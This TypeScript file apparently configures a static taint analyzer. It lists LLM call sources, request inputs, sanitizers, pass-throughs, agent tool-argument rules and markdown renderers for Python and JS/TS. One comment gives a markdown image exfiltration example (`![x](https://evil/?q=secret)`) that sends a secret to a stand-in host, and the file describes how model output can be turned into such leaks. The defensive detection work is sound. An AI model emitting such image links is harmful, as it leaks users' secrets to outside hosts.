/**
 * Sources, sanitizers and pass-through functions of the data-flow engines, as data.
 * Names are matched on the callee's dotted path after import aliases are resolved
 * (`sp.run` with `import subprocess as sp` is `subprocess.run`); `*.x` matches any receiver.
 */
import { ALL_CONTEXTS, ALLOWLIST_CONTEXTS, CTX, MARKDOWN_IMAGES_STRIPPED, PATH_NORMALIZED } from './taint';

/** Escaping to text: the result holds no tag at all, so no `<img>` either. */
const TEXT = CTX.html | CTX.image;

/** Calls whose result is model output, matched as a suffix of the dotted callee path. */
export const PY_MODEL_CALL_SUFFIXES = [
  'chat.completions.create', 'chat.completions.parse', 'completions.create', 'responses.create', 'responses.parse',
  'ChatCompletion.create', 'ChatCompletion.acreate', 'Completion.create',
  'messages.create', 'messages.stream', 'messages.parse',
  'generate_content', 'generate_content_async', 'generate_content_stream', 'send_message', 'send_message_async',
  'litellm.completion', 'litellm.acompletion', 'litellm.text_completion',
  'ollama.chat', 'ollama.generate', 'ollama.AsyncClient().chat', 'ollama.Client().chat',
];

/** Bare function names that are model calls when imported from the given module prefix. */
export const PY_MODEL_FUNCTIONS: Record<string, string[]> = {
  litellm: ['completion', 'acompletion', 'text_completion'],
  ollama: ['chat', 'generate'],
};

/** Methods that return model output when called on an LLM / chain / agent / model object. */
export const PY_MODEL_METHODS = new Set(['invoke', 'ainvoke', 'run', 'arun', 'predict', 'apredict', 'generate', 'agenerate', 'call', 'acall', 'kickoff', 'chat', 'complete', 'acomplete', 'query', 'aquery', 'batch', 'stream', 'astream']);
/** A receiver name that looks like a model, LLM, chain or agent (for the methods above). */
export const MODEL_RECEIVER = /llm|chain|agent|executor|model|crew|graph|generator|pipe|gpt|claude|gemini|ollama|query_engine|chat_engine|runnable|chatbot|assistant|^chat$|^qa$/i;
/**
 * Test doubles of models are not models (their "output" is a canned string in the test): AI SDK
 * `MockLanguageModelV2/V3`, `MockEmbeddingModelV2`, LangChain `FakeListLLM`, `FakeListChatModel`,
 * `FakeChatModel`, `GenericFakeChatModel`, `ParrotFakeChatModel`, LlamaIndex `MockLLM`, `FakeEmbeddings`.
 */
export const MOCK_MODEL_CLASS = /^(Mock|Fake|Stub|Dummy)\w*(LanguageModel|LLM|Llm|ChatModel|Model|Chat|Embeddings?|Client|Provider)(V\d+)?$|^(GenericFake|FakeList|ParrotFake|FakeStreaming|FakeMessagesList)\w*$/;
/** A receiver named as a test double of a model: `mock_llm`, `fake_model`, `mockModel`, `stubClient`, `self.fake_llm`. */
export const MOCK_RECEIVER = /^(mock|fake|stub|dummy|Mock|Fake|Stub|Dummy)([_A-Z0-9]|$)|_(mock|fake|stub|dummy)(_|$)/;
/** Constructors / factories whose result is a model object (calling it or invoking it yields model output). */
export const PY_MODEL_FACTORIES = /^(transformers\.)?pipeline$|(^|\.)(Chat[A-Z]\w*|ChatOpenAI|AzureChatOpenAI|OpenAI|AzureOpenAI|Ollama|LlamaCpp|HuggingFacePipeline|HuggingFaceHub|HuggingFaceEndpoint|VertexAI|Bedrock|ChatBedrock|LLMChain|ConversationChain|RetrievalQA\.\w+|AgentExecutor|initialize_agent|create_react_agent|create_openai_functions_agent|create_tool_calling_agent|GenerativeModel)$/;
/** Modules whose classes are LLM objects (to tell langchain's `OpenAI` from the openai client `OpenAI`). */
export const PY_LLM_MODULES = /^(langchain|langchain_\w+|llama_index|transformers|google\.generativeai|vertexai|crewai|langgraph)/;

/** Attribute reads on a request object that carry untrusted input (Flask, Django, Starlette/FastAPI). */
export const PY_REQUEST_ATTRS = new Set(['args', 'form', 'json', 'values', 'data', 'files', 'cookies', 'headers', 'GET', 'POST', 'body', 'query_params', 'path_params', 'query_string', 'stream']);
export const PY_REQUEST_METHODS = new Set(['get_json', 'get_data', 'json', 'form', 'body', 'stream']);
export const REQUEST_NAMES = /^(request|req|flask\.request|self\.request)$/;
export const PY_INPUT_CALLS = new Set(['input', 'raw_input', 'sys.stdin.read', 'sys.stdin.readline']);
export const PY_INPUT_READS = new Set(['sys.argv', 'sys.stdin']);

/** Sanitizers: qualified name -> contexts the result is safe for. */
export const PY_SANITIZERS: Record<string, number> = {
  int: ALL_CONTEXTS, float: ALL_CONTEXTS, bool: ALL_CONTEXTS, len: ALL_CONTEXTS, abs: ALL_CONTEXTS, round: ALL_CONTEXTS,
  'uuid.UUID': ALL_CONTEXTS, 'hashlib.sha256': ALL_CONTEXTS,
  'ast.literal_eval': CTX.code, 'json.loads': CTX.code, 'yaml.safe_load': CTX.code,
  'html.escape': TEXT, 'markupsafe.escape': TEXT, 'flask.escape': TEXT, 'jinja2.escape': TEXT,
  'bleach.clean': CTX.html, 'nh3.clean': CTX.html, 'cgi.escape': TEXT,
  'django.utils.html.escape': TEXT, 'django.utils.html.conditional_escape': TEXT, 'django.utils.html.strip_tags': TEXT,
  'shlex.quote': CTX.shell, 'pipes.quote': CTX.shell,
  // paths: basename-only names are confined; normalisation enables a later startswith(base) check
  'os.path.basename': CTX.path, 'posixpath.basename': CTX.path, 'werkzeug.utils.secure_filename': CTX.path, 'werkzeug.secure_filename': CTX.path,
  'pathvalidate.sanitize_filename': CTX.path, 'pathvalidate.sanitize_filepath': CTX.path,
  'os.path.realpath': PATH_NORMALIZED | CTX.option, 'os.path.abspath': PATH_NORMALIZED | CTX.option, 'os.path.normpath': PATH_NORMALIZED, 'os.path.relpath': PATH_NORMALIZED,
};
/** Methods whose result is sanitized for some contexts, whatever the receiver (pydantic validation, Path.resolve). */
export const PY_SANITIZER_METHODS: Record<string, number> = {
  model_validate: CTX.dispatch, model_validate_json: CTX.dispatch, parse_obj: CTX.dispatch, parse_raw: CTX.dispatch,
  validate_python: CTX.dispatch, validate_json: CTX.dispatch,
  resolve: PATH_NORMALIZED,
};
/** Attributes of a `Path(...)` that keep only the last component. */
export const PY_PATH_NAME_ATTRS = new Set(['name', 'stem']);

// ---- agent tool arguments (model-controlled) ----

/** Decorators (last dotted segment) whose function parameters are tool-call arguments chosen by the model. */
export const PY_TOOL_DECORATORS = /^(tool|call_tool|function_tool|kernel_function|ai_function|ai_callable)$/;
/** Parameters of a tool function that are not model-controlled (framework context objects). */
export const TOOL_CONTEXT_PARAMS = /^(self|cls|ctx|context|config|run_manager|callbacks|extra)$/;
export const TOOL_CONTEXT_TYPES = /Context|RunnableConfig|CallbackManager|Request|Session|Extra/;
/** Base classes whose `_run` / `_arun` methods receive tool arguments (LangChain BaseTool). */
export const PY_TOOL_BASES = /(^|\.)(BaseTool|StructuredTool|Tool)$/;
/** `tool_call.function.arguments`, `fc.arguments` on a function-call object, `tool_use.input`. */
export const TOOL_CALL_RECEIVER = /tool_?call|function_?call|^fc$|^call$|tool_?use/i;

// ---- guards: checks that confine a value for the statements after them ----

/** Methods called on the checked value that confine a normalised path. */
export const PATH_GUARD_METHODS = new Set(['startswith', 'is_relative_to', 'startsWith']);
/** Methods called on an allow-list with the checked value as argument. */
export const COLLECTION_GUARD_METHODS = new Set(['includes', 'has', 'hasOwnProperty', 'hasOwn', '__contains__']);
/** A same-file or library validator: `is_allowed_url(u)`, `validatePath(p)`, `isSafeHost(h)`. */
export const VALIDATOR_NAME = /allow|valid|safe|permit|within|trusted|whitelist|is_relative|inside/i;
export const GUARD_CONTEXTS = ALLOWLIST_CONTEXTS;

/** Functions whose result carries the taint of their arguments. */
export const PY_PASSTHROUGH = new Set([
  'str', 'repr', 'format', 'list', 'tuple', 'dict', 'sorted', 'reversed', 'set', 'next', 'iter',
  'textwrap.dedent', 'textwrap.indent', 'textwrap.fill', 'json.dumps', 'markdown.markdown', 'markdown2.markdown',
  'mistune.html', 'mistune.markdown', 'commonmark.commonmark', 'string.Template', 're.sub', 'base64.b64decode',
  'pathlib.Path', 'pathlib.PurePath', 'pathlib.PosixPath', 'pathlib.PurePosixPath',
  // argv splitting keeps what the caller chose (`subprocess.run(shlex.split(text))` runs the program the text names)
  'shlex.split',
]);
/** Methods whose result carries the taint of their arguments too (not only of their receiver). */
export const ARG_METHODS = new Set(['join', 'format', 'format_map', 'replace', 'concat', 'decode', 'batch_decode', 'render', 'parse', 'makeHtml', 'substitute', 'safe_substitute', 'sub', 'convert', 'append', 'push',
  // document loading and splitting: the chunks carry the text they were cut from
  'load_data', 'split_documents', 'split_text', 'create_documents', 'transform_documents', 'get_nodes_from_documents', 'splitDocuments', 'splitText', 'createDocuments']);
/**
 * Document objects and web loaders whose result carries the taint of their arguments (the text, or the
 * content of the URL they fetch): `Document(page_content=x)`, `WebBaseLoader(url).load()`, `new Document({ pageContent })`.
 */
export const DOCUMENT_PASSTHROUGH = /^(new )?(langchain\w*|@langchain\/[\w/-]+|langchain\/[\w/-]+|llama_index(\.\w+)*|llamaindex)\.(\w+\.)*(Document|TextNode|WebBaseLoader|RecursiveUrlLoader|AsyncHtmlLoader|AsyncChromiumLoader|UnstructuredURLLoader|SeleniumURLLoader|PlaywrightURLLoader|SitemapLoader|SimpleWebPageReader|TrafilaturaWebReader|BeautifulSoupWebReader|CheerioWebBaseLoader|PuppeteerWebBaseLoader|PlaywrightWebBaseLoader|RecursiveUrlLoader)(\(\))?$/;
/** Methods that add their argument to a container held in a variable. */
export const MUTATING_METHODS = new Set(['append', 'extend', 'insert', 'add', 'update', 'push', 'unshift', 'set', 'write']);

// ---- JS / TS ----

export const JS_MODEL_CALL_SUFFIXES = [
  'chat.completions.create', 'chat.completions.parse', 'completions.create', 'responses.create', 'responses.parse',
  'beta.chat.completions.parse', 'messages.create', 'messages.stream', 'generateContent', 'generateContentStream',
  'models.generateContent', 'sendMessage', 'sendMessageStream', 'ollama.chat', 'ollama.generate',
];
/** Vercel AI SDK and similar functions imported from a module. */
export const JS_MODEL_FUNCTIONS: Record<string, string[]> = {
  ai: ['generateText', 'streamText', 'generateObject', 'streamObject'],
  // chat UI hooks: `const { messages } = useChat()` holds the assistant's replies
  '@ai-sdk/react': ['useChat', 'useCompletion', 'useAssistant', 'useObject', 'experimental_useObject'],
  'ai/react': ['useChat', 'useCompletion', 'useAssistant'],
  ollama: ['chat', 'generate'],
};
/** Array methods whose callback receives the receiver's elements (`messages.map((m) => m.content)`). */
export const JS_ITERATION_METHODS = new Set(['map', 'forEach', 'flatMap', 'filter', 'find', 'findLast', 'some', 'every',
  // a promise's callback receives its value
  'then']);
export const JS_MODEL_METHODS = new Set(['invoke', 'call', 'predict', 'run', 'stream', 'batch', 'generate', 'chat', 'complete']);

export const JS_REQUEST_ATTRS = new Set(['body', 'query', 'params', 'headers', 'cookies', 'queryStringParameters', 'pathParameters', 'searchParams']);
export const JS_REQUEST_METHODS = new Set(['json', 'text', 'formData']);
export const JS_REQUEST_NAMES = /^(req|request|event|ctx\.request)$/;

export const JS_SANITIZERS: Record<string, number> = {
  Number: ALL_CONTEXTS, parseInt: ALL_CONTEXTS, parseFloat: ALL_CONTEXTS, Boolean: ALL_CONTEXTS,
  'JSON.parse': CTX.code,
  'DOMPurify.sanitize': CTX.html, 'purify.sanitize': CTX.html, 'dompurify.sanitize': CTX.html, 'isomorphic-dompurify.sanitize': CTX.html,
  'sanitizeHtml': CTX.html, 'sanitize-html': CTX.html, escapeHtml: TEXT, 'escape-html': TEXT, 'he.encode': TEXT, 'he.escape': TEXT,
  // syntax highlighters escape the code they mark up
  'hljs.highlight': TEXT, 'hljs.highlightAuto': TEXT, 'highlight.js.highlight': TEXT, 'highlight.js.highlightAuto': TEXT, 'Prism.highlight': TEXT, 'prismjs.highlight': TEXT,
  'lodash.escape': TEXT, '_.escape': TEXT, xss: CTX.html, 'xss.filterXSS': CTX.html, filterXSS: CTX.html, 'validator.escape': TEXT,
  encodeURIComponent: TEXT | CTX.shell, 'shell-quote.quote': CTX.shell, shellEscape: CTX.shell, 'shell-escape': CTX.shell,
  'path.basename': CTX.path, 'path.posix.basename': CTX.path, 'sanitize-filename': CTX.path, sanitizeFilename: CTX.path,
  'path.resolve': PATH_NORMALIZED | CTX.option, 'path.normalize': PATH_NORMALIZED, 'path.relative': PATH_NORMALIZED, 'path.posix.resolve': PATH_NORMALIZED | CTX.option,
  'fs.realpathSync': PATH_NORMALIZED | CTX.option, 'fs.promises.realpath': PATH_NORMALIZED | CTX.option, 'fs/promises.realpath': PATH_NORMALIZED | CTX.option,
};
/** Schema validation (zod, valibot, yup...): `schema.parse(x)`, `ToolArgs.safeParse(x)`. */
export const JS_SCHEMA_METHODS = new Set(['parse', 'safeParse', 'parseAsync', 'safeParseAsync', 'validateSync', 'cast']);
export const JS_SCHEMA_RECEIVER = /schema|Schema$|^z\.|^zod|^v\.|^yup\./;
/** Calls and constructors whose function-valued argument / `execute` / `func` property is a tool handler. */
export const JS_TOOL_FACTORIES = /(^|\.)(tool|DynamicStructuredTool|DynamicTool|StructuredTool|createTool|defineTool|betaZodTool)$/;
/** `server.tool(name, ..., handler)`, `server.registerTool(name, config, handler)` (MCP TypeScript SDK). */
export const JS_TOOL_REGISTRATIONS = new Set(['tool', 'registerTool', 'addTool']);
export const JS_PASSTHROUGH = new Set(['String', 'JSON.stringify', 'marked', 'marked.parse', 'marked.marked', 'snarkdown', 'Array.from', 'Object.values', 'decodeURIComponent', 'atob',
  // argv splitting and executable lookup keep what the caller chose: shell-quote's parse, spawn-rx's findActualExecutable
  'shell-quote.parse', 'spawn-rx.findActualExecutable']);


// ---- markdown rendering and remote images (markdown image exfiltration) ----

/** Functions that turn markdown into HTML: `![x](https://evil/?q=secret)` becomes an `<img>` that loads by itself. */
export const PY_MARKDOWN_RENDERERS = new Set(['markdown.markdown', 'markdown2.markdown', 'mistune.html', 'mistune.markdown', 'commonmark.commonmark', 'markdown_it.MarkdownIt().render', 'cmarkgfm.github_flavored_markdown_to_html', 'cmarkgfm.markdown_to_html']);
export const JS_MARKDOWN_RENDERERS = new Set(['marked', 'marked.parse', 'marked.marked', 'marked.marked.parse', 'snarkdown', 'micromark', 'markdown-it().render', 'markdown-it().renderInline']);
/** Methods that render markdown when called on a markdown object (`md.render(x)`, `converter.makeHtml(x)`, `Markdown().convert(x)`). */
export const MARKDOWN_METHODS = new Set(['render', 'renderInline', 'convert', 'makeHtml', 'parse', 'processSync', 'process']);
export const MARKDOWN_RECEIVER = /markdown|^md$|(^|\.)md\(\)|mistune|marked|showdown|converter|remark|commonmark|MarkdownIt/i;
/** A same-file or library helper that removes markdown images / remote URLs before rendering. */
export const MARKDOWN_IMAGE_STRIPPER = /(strip|remove|drop|block|disable|no)_?(markdown_?|md_?|remote_?|external_?)?images?|images?_?(stripped|removed)|sanitize_?markdown|escape_?markdown|strip_?markdown/i;
export const MARKDOWN_STRIPPED = MARKDOWN_IMAGES_STRIPPED | CTX.image;
/**
 * HTML sanitizers whose options decide whether `<img>` survives: `forbid` lists tags removed, `allow`
 * lists tags kept; `keepsByDefault` is whether `<img>` survives without options.
 */
export const IMAGE_SANITIZER_OPTIONS: Record<string, { forbid?: string; allow?: string; keepsByDefault: boolean }> = {
  'DOMPurify.sanitize': { forbid: 'FORBID_TAGS', allow: 'ALLOWED_TAGS', keepsByDefault: true },
  'dompurify.sanitize': { forbid: 'FORBID_TAGS', allow: 'ALLOWED_TAGS', keepsByDefault: true },
  'purify.sanitize': { forbid: 'FORBID_TAGS', allow: 'ALLOWED_TAGS', keepsByDefault: true },
  'isomorphic-dompurify.sanitize': { forbid: 'FORBID_TAGS', allow: 'ALLOWED_TAGS', keepsByDefault: true },
  'sanitize-html': { allow: 'allowedTags', keepsByDefault: false },
  sanitizeHtml: { allow: 'allowedTags', keepsByDefault: false },
  'bleach.clean': { allow: 'tags', keepsByDefault: false },
  'nh3.clean': { allow: 'tags', keepsByDefault: true },
};

/** Does a sanitizer call with these option texts drop `<img>`? */
export function imageSafeOptions(spec: { keepsByDefault: boolean }, forbidText: string | undefined, allowText: string | undefined): boolean {
  const img = /['"`]img['"`]/;
  if (forbidText && img.test(forbidText)) return true;
  if (allowText !== undefined) return !img.test(allowText);
  return !spec.keepsByDefault;
}
